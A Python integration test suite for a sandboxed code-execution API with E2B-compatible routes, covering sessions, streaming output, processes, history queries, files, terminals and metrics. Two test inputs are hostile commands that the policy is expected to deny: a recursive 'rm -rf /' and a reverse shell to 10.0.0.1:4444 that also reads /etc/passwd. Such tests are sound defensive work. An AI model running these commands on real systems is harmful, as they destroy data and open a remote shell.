"""The routes line by line: defaults, words that mean the same, filters, streams, numbers. They join the cases of cases.py."""
import json
import pathlib
import re
import socket
import time

import harness
from cases import Sandbox, case, events, last_record, leave, read_until, until
from websocket import WebSocket


def opened(client, method, path, body=None, **headers):
    """A request whose answer is read by the caller, as it comes."""
    connection = harness.http.client.HTTPConnection("127.0.0.1", client.port, timeout=60)
    connection.request(method, path, json.dumps(body) if body is not None else None, {"X-API-Key": client.key, **headers})
    return connection, connection.getresponse()


@case(provider="native")
def defaults_of_a_session(client, _):
    made = client.ok("POST", "/api/sessions", raw=b"")
    try:
        assert (made["provider"], made["environment"], made["policy"]) == ("native", "host", "standard"), made
        assert made["metadata"] == {} and made["agent"] in (None, ""), made
        lives = [time.mktime(time.strptime(made[name][:19], "%Y-%m-%dT%H:%M:%S")) for name in ("created_at", "expires_at")]
        assert lives[1] - lives[0] in (3599, 3600, 3601), made
        assert made["isolation"] and made["limits"]["memory_mb"] > 0
        assert set(made) >= {"session_id", "sandbox_id", "provider", "environment", "url", "state", "created_at",
                             "expires_at", "limits", "isolation"}
        path = "/api/sessions/" + made["session_id"]
        assert client.ok("POST", path + "/execute", {"code": "print(type(1).__name__)"})["stdout"] == "int\n"
        assert client.ok("GET", path + "/history")["records"][0]["type"] == "python"
        # The same sandbox in the words of E2B, which our description does not describe.
        _, response = opened(client, "GET", "/sandboxes/" + made["sandbox_id"])
        assert json.loads(response.read())["sandboxID"] == made["sandbox_id"]
    finally:
        client.ok("DELETE", path)


@case()
def every_field_of_create_is_taken(client, provider):
    wanted = {"provider": provider, "environment": "Python3", "agent": "assistant", "metadata": {"a": "b"},
              "limits": {"memory_mb": 256, "execution_time_seconds": 7}, "policy": "permissive", "network": "none",
              "ttl_seconds": 50, "env": {"NAME": "value"}, "skills": []}
    policies = {one["policy"] for one in client.ok("GET", "/api/environments")["environments"]}
    if client("POST", "/api/validate", {"code": "1", "policy": "permissive"}).status != 200:
        wanted["policy"] = sorted(policies)[0]
    made = client.ok("POST", "/api/sessions", wanted)
    try:
        for name in ("provider", "environment", "agent", "metadata", "policy"):
            assert made[name] == wanted[name], (name, made)
        assert made["limits"]["memory_mb"] == 256 and made["limits"]["execution_time_seconds"] == 7, made["limits"]
        done = client.ok("POST", f"/api/sessions/{made['session_id']}/commands", {"command": "echo $NAME"})
        assert done["stdout"] == "value\n", done
    finally:
        client.ok("DELETE", "/api/sessions/" + made["session_id"])


@case()
def json_is_json_under_any_content_type(client, provider):
    body = json.dumps({"provider": provider}).encode()
    for kind in ("application/x-www-form-urlencoded", "text/plain", "application/json; charset=utf-8", "x/y"):
        made = client.ok("POST", "/api/sessions", raw=body, headers={"Content-Type": kind})
        client.ok("DELETE", "/api/sessions/" + made["session_id"])


@case("real_processes")
def languages_have_several_names(client, provider):
    with Sandbox(client, provider) as box:
        for kind, words, code in (("python", ("python", "py", "python3"), "print(6*7)"),
                                  ("javascript", ("javascript", "js", "node"), "console.log(6*7)"),
                                  ("shell", ("shell", "bash", "sh"), "echo $((6*7))")):
            for word in words:
                done = box.run(code, language=word, stateless=True)
                assert done["stdout"] == "42\n", (word, done)
                assert client.ok("GET", box.base + "/history?limit=1")["records"][0]["type"] == kind


@case(provider="virtual")
def the_emulated_machine_speaks_shell(client, provider):
    with Sandbox(client, provider) as box:
        done = client.ok("POST", "/api/e2b/execute", {"session_id": box.id, "code": "echo $((6*7))"})
        assert done["stdout"] == "42\n" and set(done) >= {"stdout", "stderr", "results", "artifacts"}, done


@case("kernels", provider="native")
def all_routes_share_one_context(client, provider):
    with Sandbox(client, provider) as box:
        box.run("shared = 41")
        assert client.ok("POST", "/api/e2b/execute", {"session_id": box.id, "code": "shared += 1"})["error"] is None
        _, response = opened(client, "POST", box.base + "/execute", {"code": "print(shared)"}, Accept="text/event-stream")
        assert [data["text"] for name, data in events(response.read()) if name == "stdout"] == ["42\n"]
        box.run("globalThis.x = 1", language="js")
        assert box.run("x + 1", language="javascript")["results"][0]["data"]["text/plain"] == "2"
        assert {one["language"] for one in client.ok("GET", box.base + "/contexts")["contexts"]} == {"python", "javascript"}


@case("kernels", provider="native")
def live_events_of_a_kernel(client, provider):
    with Sandbox(client, provider) as box:
        code = "import sys\nprint('o')\nprint('e', file=sys.stderr)\n6*7"
        _, response = opened(client, "POST", box.base + "/execute", {"code": code}, Accept="text/event-stream")
        found = events(response.read())
        assert [name for name, _ in found][0] == "start" and [name for name, _ in found][-1] == "done", found
        results = [data for name, data in found if name == "result"]
        assert results and results[0]["data"]["text/plain"] == "42", found
        assert found[-1][1]["status"] == "success" and found[-1][1]["stdout"] == "o\n"
        _, response = opened(client, "POST", box.base + "/execute", {"code": "1/0"}, Accept="text/event-stream")
        found = events(response.read())
        raised = [data for name, data in found if name == "error"]
        assert raised[0]["name"] == "ZeroDivisionError" and "Traceback" in raised[0]["traceback"], found
        assert found[-1][1]["status"] == "error"
        denied = {"code": "import os; os.system('rm -rf / --no-preserve-root')"}
        verdict = client.ok("POST", "/api/validate", {**denied, "language": "python"})
        if not verdict["allowed"]:
            _, response = opened(client, "POST", box.base + "/execute", denied, Accept="text/event-stream")
            assert [name for name, _ in events(response.read())] == ["start", "done"]


@case()
def live_events_of_a_command(client, provider):
    with Sandbox(client, provider) as box:
        _, response = opened(client, "POST", box.base + "/commands",
                             {"command": "cat; echo err >&2; exit 3", "stdin": "in\n"}, Accept="text/event-stream")
        assert response.status == 200, response.read()
        found = events(response.read())
        assert found[0][0] == "start" and found[0][1]["pid"] > 0, found
        assert "".join(data["text"] for name, data in found if name == "stdout") == "in\n"
        assert "".join(data["text"] for name, data in found if name == "stderr") == "err\n"
        assert found[-1][0] == "exit" and found[-1][1]["exit_code"] == 3, found
        record = until(lambda: last_record(client, box), "the record ends")
        assert (record["status"], record["stdout"], record["metadata"]["return_code"]) == ("error", "in\n", 3), record


@case("real_processes")
def a_client_that_leaves_a_live_command_ends_it(client, provider):
    with Sandbox(client, provider) as box:
        connection, response = opened(client, "POST", box.base + "/commands",
                                      {"command": "echo on; sleep 250", "timeout_seconds": 300}, Accept="text/event-stream")
        read_until(response, b"on")
        leave(connection, response)
        record = until(lambda: last_record(client, box), "the record ends")
        assert record["status"] == "killed" and "client" in record["reason"], record
        assert record["stdout"] == "on\n", record
        until(lambda: not client.ok("GET", box.base + "/processes")["processes"], "its process ends")


@case("real_processes")
def a_client_that_leaves_something_in_the_background_leaves_it(client, provider):
    with Sandbox(client, provider) as box:
        connection, response = opened(client, "POST", box.base + "/commands",
                                      {"command": "echo on; cat; echo off", "background": True, "stdin": True, "tag": "b"},
                                      Accept="text/event-stream")
        read_until(response, b"on")
        leave(connection, response)
        time.sleep(0.2)
        assert [one["tag"] for one in client.ok("GET", box.base + "/processes")["processes"]] == ["b"]
        connection, response = opened(client, "GET", box.base + "/processes/b/attach?replay=true")
        client.ok("POST", box.base + "/processes/b/stdin", {"base64": "aGkK", "close": True})
        found = events(response.read())
        assert "".join(data["text"] for name, data in found if name == "stdout") == "on\nhi\noff\n", found
        assert found[-1][0] == "exit" and found[-1][1]["exit_code"] == 0, found


@case("real_processes")
def processes_by_number_and_by_tag(client, provider):
    with Sandbox(client, provider) as box:
        for signal, gone in (("USR1", False), ("SIGINT", True), (9, True)):
            made = client.ok("POST", box.base + "/commands", {"background": True, "tag": "p", "argv": [
                "python3", "-c", "import os,signal,time\nsignal.signal(signal.SIGUSR1, lambda *_: os.write(1, b'usr1\\n'))\n"
                                 "print('up', flush=True)\ntime.sleep(200)\ntime.sleep(200)"]})
            connection, response = opened(client, "GET", box.base + "/processes/p/attach?replay=true")
            read_until(response, b"up")
            client.ok("POST", f"{box.base}/processes/{made['pid']}/signal", {"signal": signal})
            if not gone:
                read_until(response, b"usr1")
                client.ok("DELETE", box.base + "/processes/p")
            found = events(response.read())
            assert found[-1][0] == "exit" and found[-1][1]["exit_code"] != 0, (signal, found)
            leave(connection, response)
        client.fails(404, "not_found", "GET", box.base + "/processes/p/attach")


@case()
def sessions_are_filtered_and_ordered(client, provider):
    mark = {"filter": provider}
    first = client.ok("POST", "/api/sessions", {"provider": provider, "metadata": mark})
    second = client.ok("POST", "/api/sessions", {"provider": provider, "metadata": {**mark, "x": "1"}, "environment": "Python3"})
    ask = lambda query: [one["session_id"] for one in  # noqa: E731
                         client.ok("GET", f"/api/sessions?metadata.filter={provider}&{query}")["sessions"]]
    both = [first["session_id"], second["session_id"]]
    assert ask("order=asc") == both and ask("order=desc") == both[::-1] and ask("") == both[::-1]
    assert ask("metadata.x=1") == [both[1]] and ask("environment=Python3") == [both[1]]
    assert ask(f"provider={provider}&limit=1") == [both[1]] and ask("provider=mars") == []
    assert ask("created_after=" + first["created_at"].replace("+", "%2B") + "&order=asc")[-1] == both[1]
    assert ask("created_after=2100-01-01T00:00:00Z") == []
    client.ok("DELETE", "/api/sessions/" + both[0])
    assert ask("state=stopped") == [both[0]] and ask("state=running") == [both[1]]
    assert ask("state=stopped&state=running") == both[::-1]
    client.ok("DELETE", "/api/sessions/" + both[1])
    for query, field in (("state=sleepy", "state"), ("order=up", "order"), ("limit=0", "limit"), ("limit=x", "limit"),
                         ("created_after=noon", "created_after"), ("cursor=-1", "cursor")):
        error = client.fails(400, "invalid_argument", "GET", "/api/sessions?" + query)
        assert error["details"]["field"] == field, error
    # What has ended stays readable, with its history and its artifacts.
    assert client.ok("GET", f"/api/sessions/{both[0]}/history")["records"] == []
    assert client.ok("GET", f"/api/sessions/{both[0]}/artifacts")["artifacts"] == []
    client.fails(409, "conflict", "GET", f"/api/sessions/{both[0]}/usage")


@case()
def use_extends_a_life_that_asks_for_it(client, provider):
    for extends in (True, False):
        with Sandbox(client, provider, ttl_seconds=500, extend_on_use=extends) as box:
            before = client.ok("GET", box.base)["expires_at"]
            time.sleep(0.02)
            box.shell("true")
            after = client.ok("GET", box.base)["expires_at"]
            assert (after > before) == extends, (extends, before, after)
            changed = client.ok("PATCH", box.base, {"extend_on_use": not extends, "on_expiry": "destroy", "env": {"B": "2"}})
            assert changed["extend_on_use"] is (not extends), changed
            assert box.shell("echo $B")["stdout"] == "2\n"
            for body, field in (({"colour": 1}, "colour"), ({"ttl_seconds": 0}, "ttl_seconds"), ({"on_expiry": "x"}, "on_expiry")):
                error = client.fails(400, "invalid_argument", "PATCH", box.base, body)
                assert error["details"]["field"] == field, error


@case("pause")
def a_life_may_end_in_a_pause(client, provider):
    with Sandbox(client, provider, ttl_seconds=0.3, on_expiry="pause", auto_resume=True) as box:
        until(lambda: client.ok("GET", box.base)["state"] == "paused", "it is paused")
        client.ok("PATCH", box.base, {"ttl_seconds": 600})
        assert box.shell("echo woken")["stdout"] == "woken\n"
        assert client.ok("GET", box.base)["state"] == "running"


@case(provider="virtual")
def a_trait_that_is_missing_is_named(client, provider):
    with Sandbox(client, provider) as box:
        traits = {one["name"]: one["traits"] for one in client.providers()}[provider]
        for trait, method, path, body in (("pause", "POST", "/pause", None), ("kernels", "POST", "/contexts", {}),
                                          ("pty", "GET", "/terminal", None)):
            if not traits[trait]:
                error = client.fails(400, "unsupported", method, box.base + path, body)
                assert f"'{trait}'" in error["message"] and provider in error["message"], error


@case()
def history_is_asked_in_every_way(client, provider):
    with Sandbox(client, provider) as box:
        for number in range(3):
            box.shell(f"echo word{number}")
        box.shell("echo gone >&2; exit 4")
        ask = lambda query: client.ok("GET", f"{box.base}/history?{query}")["records"]  # noqa: E731
        assert [one["code"] for one in ask("text=word1")] == ["echo word1"]
        assert ask("text=nothing-like-it") == []
        assert [one["metadata"]["return_code"] for one in ask("status=error")] == [4]
        assert len(ask("status=error&status=success")) == 4
        middle = ask("order=asc")[1]["timestamp"].replace("+", "%2B")
        assert [one["code"] for one in ask(f"order=asc&from={middle}")][0] == "echo word1"
        assert [one["code"] for one in ask(f"order=desc&to={middle}")][0] == "echo word1"
        assert len(ask("limit=2")) == 2
        record = ask("order=asc&limit=1")[0]
        assert {"timestamp", "type", "code", "status", "stdout", "stderr", "error", "traceback", "metadata"} <= set(record)
        assert {"return_code", "usage", "verdict", "session_id", "principal"} <= set(record["metadata"]), record["metadata"]
        lines = client("GET", box.base + "/history", headers={"Accept": "application/x-ndjson"})
        assert lines.headers["content-type"] == "application/x-ndjson"
        assert [json.loads(line)["status"] for line in lines.body.splitlines()] == ["error"] + ["success"] * 3
        seen, cursor = [], ""
        while cursor is not None:
            page = client.ok("GET", f"{box.base}/history?limit=3{cursor}")
            seen += [one["record_id"] for one in page["records"]]
            cursor = page["next_cursor"] and "&cursor=" + page["next_cursor"]
        assert len(seen) == len(set(seen)) == 4
        for query in ("format=xml", "order=x", "from=x", "limit=9999", "colour=red", "cursor=x"):
            client.fails(400, "invalid_argument", "GET", f"{box.base}/history?{query}")


@case(provider="virtual")
def a_hundred_records_are_a_page_and_all_are_exported(client, provider):
    with Sandbox(client, provider) as box:
        for number in range(205):
            box.shell(f"echo {number}")
        page = client.ok("GET", box.base + "/history")
        assert len(page["records"]) == 100 and page["next_cursor"]
        lines = client.ok("GET", box.base + "/history?format=jsonl&order=asc").splitlines()
        assert [json.loads(line)["stdout"] for line in lines] == [f"{number}\n" for number in range(205)]


@case()
def files_have_modes_ends_and_links(client, provider):
    with Sandbox(client, provider) as box:
        files = box.base + "/files"
        client.ok("PUT", files + "?path=/home/user/a&mode=640", raw=b"one")
        client.ok("PUT", files + "?path=/home/user/a&append=true", raw=b"two")
        assert box.get("/home/user/a").body == b"onetwo"
        modes = {one["name"]: one["mode"] for one in client.ok("GET", files + "?path=/home/user")["entries"]}
        assert modes["a"] == "0640", modes
        box.shell("mkdir -p d/e; ln -s d link; ln -s a file; echo deep > d/e/f")
        assert [one["name"] for one in box.get("/home/user/link").json["entries"]] == ["e"]
        assert box.get("/home/user/file").body == b"onetwo"
        deep = client.ok("GET", files + "?path=/home/user/d&depth=2")["entries"]
        assert sorted(one["name"] for one in deep) == ["e", "f"], deep
        for query in ("path=/home/user/a&mode=999", "path=/home/user/a&append=maybe", "path=%00", "path=/" + "x" * 5000):
            client.fails(400, "invalid_argument", "PUT", f"{files}?{query}", raw=b"")
        for wanted, status in (("bytes=0-0", 206), ("bytes=2-", 206), ("bytes=5-2", 416), ("bytes=-0", 416),
                               ("lines=1-2", 200), ("bytes=1-2,3-4", 200), ("bytes=x", 200)):
            assert box.get("/home/user/a", headers={"Range": wanted}).status == status, wanted
        client.ok("POST", files + "/copy", {"from": "/home/user/a", "to": "/home/user/b"})
        client.fails(409, "already_exists", "POST", files + "/move", {"from": "/home/user/a", "to": "/home/user/b"})
        client.ok("POST", files + "/move", {"from": "/home/user/a", "to": "/home/user/b", "overwrite": True})
        client.fails(404, "not_found", "POST", files + "/copy", {"from": "/home/user/a", "to": "/home/user/c"})
        client.fails(400, "invalid_argument", "POST", files + "/move", {"from": "/home/user/b"})
        for body, field in (({"session_id": box.id, "path": "x", "content": ""}, "path"),
                            ({"session_id": box.id, "path": "/x", "content": "?", "encoding": "base64"}, "content"),
                            ({"session_id": box.id, "path": "/x", "content": "", "encoding": "latin-1"}, "encoding")):
            assert client.fails(400, "invalid_argument", "POST", "/api/e2b/files", body)["details"]["field"] == field
        client.ok("POST", "/api/e2b/files", {"session_id": box.id, "path": "/home/user/u", "content": "\u00e4"})
        assert client.ok("GET", f"/api/e2b/files/{box.id}?path=/home/user/u") == "\u00e4".encode()
        assert client.ok("GET", f"/api/e2b/files/{box.id}?path=/home/user/file2", status=(404,))


@case()
def a_cut_upload_leaves_what_was_there(client, provider):
    with Sandbox(client, provider) as box:
        made = client.ok("GET", box.base)
        plane = (f"E2b-Sandbox-Id: {made['sandbox_id']}\r\nE2b-Sandbox-Port: 49983\r\n"
                 f"X-Access-Token: {made['access_token']}\r\n")
        part = b'--edge\r\nContent-Disposition: form-data; name="file"; filename="x"\r\n\r\n'
        ways = {"REST": (f"PUT {box.base}/files?path=", f"X-API-Key: {client.key}\r\n", b""),
                "E2B": ("POST /files?path=", plane + "Content-Type: application/octet-stream\r\n", b""),
                "E2B in parts": ("POST /files?path=", plane + "Content-Type: multipart/form-data; boundary=edge\r\n", part)}
        box.put("/home/user/kept", b"what was there")
        for name, (line, headers, before) in ways.items():
            for path, size in (("kept", 100), ("kept", 2 << 20), ("new", 100), ("new", 2 << 20)):
                sock = socket.create_connection(("127.0.0.1", client.port))
                sock.sendall((f"{line}/home/user/{path} HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {8 << 20}\r\n\r\n").encode())
                sock.sendall(before + b"x" * size)
                # It was taken, and is waited for: a refusal would be an answer.
                sock.settimeout(0.2)
                try:
                    assert False, (name, path, size, sock.recv(1000))
                except TimeoutError:
                    sock.close()
            until(lambda: box.get("/home/user/new").status == 404, f"{name}: the half is gone")
            until(lambda: box.get("/home/user/kept").body == b"what was there", f"{name}: the file is as it was")


@case(provider="native")
def big_files_pass_with_flat_memory(client, provider):
    with Sandbox(client, provider, limits={"disk_mb": 400, "memory_mb": 512}) as box:
        size, piece = 192 << 20, b"0123456789abcdef" * 65536
        before = memory_of(client)
        sock = socket.create_connection(("127.0.0.1", client.port))
        sock.sendall((f"PUT {box.base}/files?path=/home/user/big HTTP/1.1\r\nHost: x\r\nX-API-Key: {client.key}\r\n"
                      f"Content-Length: {size}\r\nConnection: close\r\n\r\n").encode())
        for _ in range(size // len(piece)):
            sock.sendall(piece)
        assert b" 200 " in sock.recv(65536)
        sock.close()
        connection, response = opened(client, "GET", box.base + "/files?path=/home/user/big")
        got = 0
        while block := response.read(1 << 20):
            got += len(block)
        connection.close()
        assert got == size, got
        grown = memory_of(client) - before
        assert grown < 64 << 20, f"{grown >> 20} MiB for a file of {size >> 20}"


def memory_of(client):
    text = client.ok("GET", "/metrics").decode()
    return int(float([line for line in text.splitlines() if line.startswith("process_resident_memory_bytes ")][0].split()[1]))


@case("watch")
def each_kind_of_change_is_told(client, provider):
    with Sandbox(client, provider) as box:
        connection, response = opened(client, "GET", box.base + "/files/watch?path=/home/user")
        assert b"start" in response.readline()

        def told(*words):
            """Looks at one change after another: those that come close together may be told as one."""
            for line in response:
                if line.startswith(b"event: ") and line[7:].strip().decode() in words:
                    return
        box.put("/home/user/a", b"1")
        told("create")
        box.put("/home/user/a", b"22")
        told("write")
        client.ok("POST", box.base + "/files/move", {"from": "/home/user/a", "to": "/home/user/b"})
        told("rename", "remove")
        client.ok("DELETE", box.base + "/files?path=/home/user/b")
        told("remove")
        client.fails(404, "not_found", "GET", box.base + "/files/watch?path=/home/user/none")
        client.fails(400, "invalid_argument", "GET", box.base + "/files/watch?path=/home/user&recursive=maybe")
        leave(connection, response)


@case("pty")
def a_terminal_takes_words_and_keys(client, provider):
    with Sandbox(client, provider) as box:
        terminal = WebSocket(client.port, box.base + "/terminal?cwd=/tmp", ["X-API-Key: " + client.key])
        terminal.send(json.dumps({"type": "sing"}).encode(), text=True)
        terminal.send(json.dumps({"type": "input", "data": "pwd; echo \u00e4''\u00f6\n"}).encode(), text=True)
        out, complaint = b"", None
        while "\u00e4\u00f6".encode() not in out or complaint is None:
            opcode, payload = terminal.receive()
            if opcode == 2:
                out += payload
            elif opcode == 1:
                complaint = json.loads(payload)
        assert b"/tmp" in out and complaint["type"] == "error" and "'resize'" in complaint["message"], (out, complaint)
        terminal.close()
        until(lambda: not client.ok("GET", box.base + "/processes")["processes"], "the shell ends with its window")
        client.fails(400, "invalid_argument", "GET", box.base + "/terminal?columns=0")
        assert WebSocket(client.port, box.base + "/terminal", []).status == 401


@case()
def series_and_numbers_have_their_names(client, provider):
    with Sandbox(client, provider) as box:
        box.shell("echo x")
        denied = box.shell("cat /etc/passwd | bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
        assert denied["status"] == "denied"
        late = box.shell("while true; do :; done", timeout_seconds=0.3)
        assert late["status"] == "timeout", late
        samples = until(lambda: client.ok("GET", box.base + "/metrics")["samples"], "a sample")
        assert {"at", "cpu_percent"} <= set(samples[0]) or "timestamp" in samples[0], samples[0]
        assert client.ok("GET", box.base + "/metrics?from=2100-01-01T00:00:00Z")["samples"] == []
        assert client.ok("GET", box.base + "/metrics?to=2000-01-01T00:00:00Z")["samples"] == []
        client.fails(400, "invalid_argument", "GET", box.base + "/metrics?from=x")
        text = client.ok("GET", "/metrics").decode()
        kinds = {line.split()[2]: line.split()[3] for line in text.splitlines() if line.startswith("# TYPE")}
        for name, kind in (("atoll_sessions", "gauge"), ("atoll_create_seconds", "histogram"),
                           ("atoll_execute_seconds", "histogram"), ("atoll_limit_hits_total", "counter"),
                           ("atoll_policy_denials_total", "counter"), ("atoll_pool_ready", "gauge"),
                           ("atoll_http_requests_total", "counter"), ("atoll_http_request_seconds", "histogram"),
                           ("process_resident_memory_bytes", "gauge"), ("process_cpu_seconds_total", "counter")):
            assert kinds.get(name) == kind, (name, sorted(kinds.items()))
        assert f'atoll_sessions{{provider="{provider}",state="running"}} 1' in text or \
            f'atoll_sessions{{state="running",provider="{provider}"}} 1' in text, text[:2000]


@case()
def the_description_is_the_one_of_the_project(client, _):
    text = (pathlib.Path(harness.ROOT) / "sdk" / "openapi.yaml").read_text(encoding="utf-8")
    ours = set(re.findall(r"^  (/\S*):$", text.split("\ncomponents:")[0], re.M))
    assert set(client.ok("GET", "/openapi.json")["paths"]) == ours


@case("snapshot", "fork")
def snapshots_are_listed_page_by_page(client, provider):
    with Sandbox(client, provider) as box:
        made = [client.ok("POST", box.base + "/snapshots", {"name": f"s{number}"})["snapshot_id"] for number in range(3)]
        page = client.ok("GET", box.base + "/snapshots?limit=2")
        rest = client.ok("GET", f"{box.base}/snapshots?limit=2&cursor={page['next_cursor']}")
        assert sorted(one["snapshot_id"] for one in page["snapshots"] + rest["snapshots"]) == sorted(made)
        assert rest["next_cursor"] is None
        assert set(made) <= {one["snapshot_id"] for one in client.ok("GET", "/api/snapshots")["snapshots"]}
        client.fails(400, "invalid_argument", "GET", "/api/snapshots?cursor=x")
        for one in made:
            client.ok("DELETE", "/api/snapshots/" + one)
        client.fails(404, "not_found", "DELETE", "/api/snapshots/" + made[0])
        client.fails(400, "invalid_argument", "POST", box.base + "/restore", {})
        forked = client.ok("POST", box.base + "/fork", {"metadata": {"forked": "yes"}, "ttl_seconds": 60})
        assert forked["metadata"] == {"forked": "yes"} and forked["parent"] == box.id, forked
        client.ok("DELETE", "/api/sessions/" + forked["session_id"])
